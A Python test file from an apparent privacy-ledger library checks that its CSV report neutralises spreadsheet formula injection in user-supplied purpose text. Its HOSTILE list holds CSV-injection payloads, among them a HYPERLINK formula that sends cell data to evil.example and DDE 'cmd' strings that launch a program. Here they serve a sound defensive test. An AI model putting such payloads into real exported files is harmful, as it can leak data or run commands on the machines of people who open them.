"""report.csv never hands a spreadsheet a formula that the coordinator wrote.

The purpose (and so a refusal reason that quotes it) is text the coordinator controls;
a DPO opens report.csv in a spreadsheet.  Built with the real ledger: hostile purposes
charged and refused, then every cell of the CSV checked.
"""

from __future__ import annotations

import csv
import io

import pytest

from privfl.privacy.events import PoissonSubsampledGaussian as Event
from privfl.privacy.keys import generate_owner_keys, load_private_key
from privfl.privacy.ledger import OwnerLedger, update_hash
from privfl.privacy.report import build_report, render_csv
from privfl.privacy.report.csv_report import FORMULA_TRIGGERS, neutralise_formula

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory) -> list[list[str]]:
    folder = tmp_path_factory.mktemp("csv-injection")
    key = load_private_key(generate_owner_keys(folder / "keys", "st-mary").private_key)
    with OwnerLedger.open(folder / "st-mary.db", "st-mary", key) as ledger:
        for rnd, purpose in enumerate(HOSTILE, start=1):
            ledger.charge("exp-1", rnd, Event(1.5, 0.02, 10), clipping_norm=1.0, delta=1e-5, epsilon_budget=50.0,
                          accountant="rdp", purpose=purpose, update_hash=update_hash(purpose.encode()))
            ledger.refuse("exp-2", rnd, f"{purpose} is not an allowed purpose", delta=1e-5, epsilon_budget=50.0,
                          accountant="rdp", event=Event(1.5, 0.02, 10), purpose=purpose, clipping_norm=1.0)
    report = build_report([folder / "st-mary.db"], keys=folder / "keys")
    return list(csv.reader(io.StringIO(render_csv(report), newline="")))


def test_no_text_cell_starts_with_a_formula_trigger(hostile_csv):
    header, rows = hostile_csv[0], hostile_csv[1:]
    entries = [r for r in rows if r[header.index("kind")] in ("charge", "refusal")]
    assert len(entries) == 2 * len(HOSTILE)
    for row in rows:  # the decision, channel and DPIA rows after the entries too
        for column, cell in zip(header, row):
            if _is_number(cell):
                continue  # a number (a negative epsilon left, say) is a value, not a formula
            assert not cell.startswith(FORMULA_TRIGGERS), f"{column}: {cell!r} would run as a formula"


def test_hostile_text_is_kept_readable_behind_the_apostrophe(hostile_csv):
    header, rows = hostile_csv[0], hostile_csv[1:]
    rows = [r for r in rows if r[header.index("kind")] in ("charge", "refusal")]
    purposes = [row[header.index("purpose")] for row in rows]
    reasons = [row[header.index("refusal_reason")] for row in rows if row[header.index("refusal_reason")]]
    assert sorted(p[1:] for p in purposes) == sorted(HOSTILE * 2)
    assert sorted(r[1:] for r in reasons) == sorted(f"{p} is not an allowed purpose" for p in HOSTILE)


@pytest.mark.parametrize("text", ["sepsis model", "", "1e-5", "'quoted", "a=b"])
def test_ordinary_text_is_left_as_it_is(text):
    assert neutralise_formula(text) == text
